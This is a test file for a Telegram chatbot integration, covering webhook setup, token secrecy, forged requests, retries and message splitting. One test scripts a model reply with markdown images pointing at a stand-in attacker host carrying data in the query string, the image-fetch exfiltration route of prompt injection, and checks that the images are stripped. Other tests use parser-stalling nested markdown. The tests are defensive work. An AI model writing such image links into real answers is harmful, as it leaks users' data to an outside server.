import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { channelUrls } from '../../../../test/channel-urls.ts';
import { startProduct, type Product, type TestClient } from '../../../../test/product.ts';
import { startProvider, type Provider } from '../../../../test/stand-ins/provider.ts';
import { makeTaughtAgent } from '../../../../test/taught-agent.ts';
import { startTelegramService, type TelegramService } from '../../../../test/stand-ins/telegram-service.ts';
import { forgetIdle } from '../visitor/store.ts';

let service: TelegramService;
let provider: Provider;
let product: Product;
let owner: TestClient;
let organizationId: string;
let pluginId: string;
let agentId: string;
beforeAll(async () => {
  service = await startTelegramService();
  provider = await startProvider({ pieces: ['Until ', 'nine ', '[1].'] });
  product = await startProduct({
    providers: { openai: provider.openai },
    channelUrls: channelUrls({ telegram: service.url }),
  });
  owner = product.as('owner');
  organizationId = (await owner.organization.create({ name: 'Acme' })).organization.id;
});
afterAll(async () => {
  await product.close();
  await provider.close();
  await service.close();
});
beforeEach(async () => {
  agentId = (await makeTaughtAgent(owner, organizationId, 'The shop closes at nine in the evening.')).id;
  pluginId = (await install()).id;
  service.sent = [];
});

const install = async (botToken = service.token) =>
  (
    await owner.plugin.create({
      chatbotId: agentId,
      type: 'telegram',
      settingsData: {},
      credentials: { botToken },
    })
  ).plugin;

const told = () => service.sent.map(({ text }) => text);

test('a bot is installed with its token: its service learns the webhook, and nobody can read the token', async () => {
  const { plugin } = await owner.plugin.get({ id: pluginId });
  expect(plugin).toMatchObject({
    type: 'telegram',
    connection: { isConnected: true, accountName: '@helper_bot' },
    webhookUrl: expect.stringMatching(new RegExp(`/v1/plugin/${pluginId}/webhook$`)) as string,
    health: { state: 'healthy', error: null },
  });
  expect(service.webhook?.url).toBe(plugin.webhookUrl);
  expect(JSON.stringify(plugin)).not.toContain(service.token);
  expect(JSON.stringify(plugin)).not.toContain(service.webhook?.secret);
  await owner.plugin.remove({ id: pluginId });
  expect(service.webhook).toBeUndefined();
});

test('a wrong token is reported in plain words, and a right one fixes it', async () => {
  const { id, health } = await install('1:wrong');
  expect(health).toMatchObject({ state: 'failing', error: 'Telegram said: Unauthorized' });
  const { plugin } = await owner.plugin.update({ id, credentials: { botToken: service.token } });
  expect(plugin.health).toMatchObject({ state: 'healthy', error: null });
});

test('a message to the bot is answered there, in a conversation of its sender’s that shows its channel', async () => {
  expect(await service.deliver(service.message('When does the shop close?'))).toBe(200);
  await expect.poll(told).toHaveLength(1);
  expect(told()[0]).toContain('Until nine');
  expect(service.sent[0]?.chatId).toBe('77');
  await expect
    .poll(async () => (await owner.plugin.listMessages({ id: pluginId })).messages)
    .toMatchObject([{ personName: 'Ada', text: 'When does the shop close?', state: 'answered' }]);
  await service.deliver(service.message('And tomorrow?'));
  await expect.poll(told).toHaveLength(2);
  const { messages: both } = await owner.plugin.listMessages({ id: pluginId });
  expect(new Set(both.map(({ conversationId }) => conversationId)).size).toBe(1);
});

test('an answer shows no image and no preview, so nobody fetches what a model was led to write', async () => {
  const pieces = ['![Look](https://evil.example/a?told=4711) !![and](https://evil.example/b) `![code](c)`'];
  provider.script = { pieces };
  await service.deliver(service.message('When does the shop close?'));
  await expect.poll(told).toHaveLength(1);
  provider.script = { pieces: ['Until ', 'nine ', '[1].'] };
  expect(told()[0]).toContain('[Look](https://evil.example/a?told=4711) [and](https://evil.example/b)');
  expect(told()[0]).toContain('`![code](c)`');
  expect(service.sent[0]?.preview).toEqual({ is_disabled: true });
});

test.each([
  ['pictures in pictures', `${'!['.repeat(5000)}x${'](u)'.repeat(5000)}`],
  ['quotes in quotes', '>'.repeat(30_000)],
  ['marks in marks', `${'*_'.repeat(8000)}a${'_*'.repeat(8000)}`],
])('%s, in a message or an answer, block nobody', async (_what, slow) => {
  provider.script = { pieces: [slow] };
  const began = performance.now();
  expect(await service.deliver(service.message(slow))).toBe(200);
  await expect.poll(() => told().length).toBeGreaterThan(1);
  provider.script = { pieces: ['Until ', 'nine ', '[1].'] };
  expect(performance.now() - began).toBeLessThan(60_000);
  expect((await owner.plugin.listMessages({ id: pluginId })).messages[0]?.error).toBeNull();
});

test('an update delivered again is answered once, a forged one not at all', async () => {
  const update = service.message('When does the shop close?');
  const statuses = await Promise.all(Array.from({ length: 5 }, () => service.deliver(update)));
  expect(statuses).toEqual([200, 200, 200, 200, 200]);
  expect(await service.deliver(service.message('Hello?'), { secret: 'forged' })).toBe(401);
  expect(await service.deliver(service.message('Hello?'), { secret: '' })).toBe(401);
  await expect.poll(told).toHaveLength(1);
  await service.deliver(update);
  expect((await owner.plugin.listMessages({ id: pluginId })).messages).toHaveLength(1);
});

test('a paused bot stores nothing, and a removed one does not exist', async () => {
  await owner.plugin.update({ id: pluginId, status: 'paused' });
  expect(await service.deliver(service.message('Hello?'))).toBe(200);
  expect((await owner.plugin.listMessages({ id: pluginId })).messages).toEqual([]);
  const { webhook } = service;
  await owner.plugin.remove({ id: pluginId });
  service.webhook = webhook;
  expect(await service.deliver(service.message('Hello?'))).toBe(404);
});

test('in a group it answers whoever mentions it, and continues with them alone', async () => {
  await service.deliver(service.groupMessage('What a nice day'));
  await service.deliver(service.groupMessage('@helper_bot when does the shop close?'));
  await expect.poll(told).toHaveLength(1);
  expect(service.sent[0]?.chatId).toBe('-100');
  await service.deliver(service.groupMessage('Not you', { id: 78, first_name: 'Bob' }));
  const { messages } = await owner.plugin.listMessages({ id: pluginId });
  expect(messages.map(({ text }) => text)).toEqual(['when does the shop close?']);
});

test('a message that the service cannot accept now is delivered later, once', async () => {
  service.failing = { status: 500, times: 1 };
  await service.deliver(service.message('When does the shop close?'));
  await expect.poll(told, { timeout: 60_000 }).toHaveLength(1);
  await expect
    .poll(async () => (await owner.plugin.listMessages({ id: pluginId })).messages[0]?.state)
    .toBe('answered');
  expect(provider.requests.length).toBeGreaterThan(0);
  expect((await owner.plugin.get({ id: pluginId })).plugin.health.state).toBe('healthy');
});

test('a long answer is split into parts that the service accepts', async () => {
  const words = Array.from({ length: 1500 }, (_, index) => `word${index}${index % 50 === 49 ? '\n\n' : ' '}`);
  provider.script = { pieces: words };
  await service.deliver(service.message('Tell me everything'));
  await expect.poll(() => told().join(' ')).toContain('word1499');
  provider.script = { pieces: ['Until ', 'nine ', '[1].'] };
  expect(service.sent.length).toBeGreaterThan(2);
  for (const { text } of service.sent) expect(text.length).toBeLessThanOrEqual(4096);
});

/** A question delivered by its service whose answer can't be generated yet. */
async function leaveUnanswered(question = 'When does the shop close?'): Promise<void> {
  service.failing = { status: 500, times: 1000 };
  await service.deliver(service.message(question));
  const lastError = async () => (await owner.plugin.listMessages({ id: pluginId })).messages[0]?.error;
  await expect.poll(lastError).toBeTypeOf('string');
}

/** Unfinished attempts: as long as there is one, it could be mistaken for the effect of resuming. */
const queued = async () =>
  (
    await product.app.deps.db.owner.query<{ count: number }>(
      `select count(*)::int as count from pgboss.job where name = 'channel.answer' and state <> 'completed'`,
    )
  ).rows[0]?.count;

test('messages that waited while a plugin was paused are answered when it resumes', async () => {
  await leaveUnanswered();
  await owner.plugin.update({ id: pluginId, status: 'paused' });
  service.failing.times = 0;
  await expect.poll(queued, { timeout: 60_000 }).toBe(0);
  expect(told()).toEqual([]);
  await owner.plugin.update({ id: pluginId, status: 'active' });
  await expect.poll(told).toHaveLength(1);
});

test('messages that waited while an agent was in the trash are answered after its restore', async () => {
  await leaveUnanswered();
  await owner.chatbot.remove({ id: agentId, organizationId });
  service.failing.times = 0;
  await expect.poll(queued, { timeout: 60_000 }).toBe(0);
  expect(told()).toEqual([]);
  await owner.agentKeeping.restore({ id: agentId, organizationId });
  await expect.poll(told).toHaveLength(1);
});

test('messages that waited for days are answered, and their senders remembered even if nothing was said yet', async () => {
  await leaveUnanswered('/start');
  await owner.plugin.update({ id: pluginId, status: 'paused' });
  service.failing.times = 0;
  await expect.poll(queued, { timeout: 60_000 }).toBe(0);
  const { owner: pool } = product.app.deps.db;
  const forget = async () => {
    await pool.query(`update visitor set last_seen_at = now() - interval '3 days'`);
    await forgetIdle(product.app.deps.db);
    return (await pool.query('select from visitor where agent_id = $1', [agentId])).rowCount;
  };
  expect(await forget()).toBe(1);
  await owner.plugin.update({ id: pluginId, status: 'active' });
  await expect.poll(told).toHaveLength(1);
  // Nothing remains of a person who was only greeted.
  await expect.poll(forget).toBe(0);
});
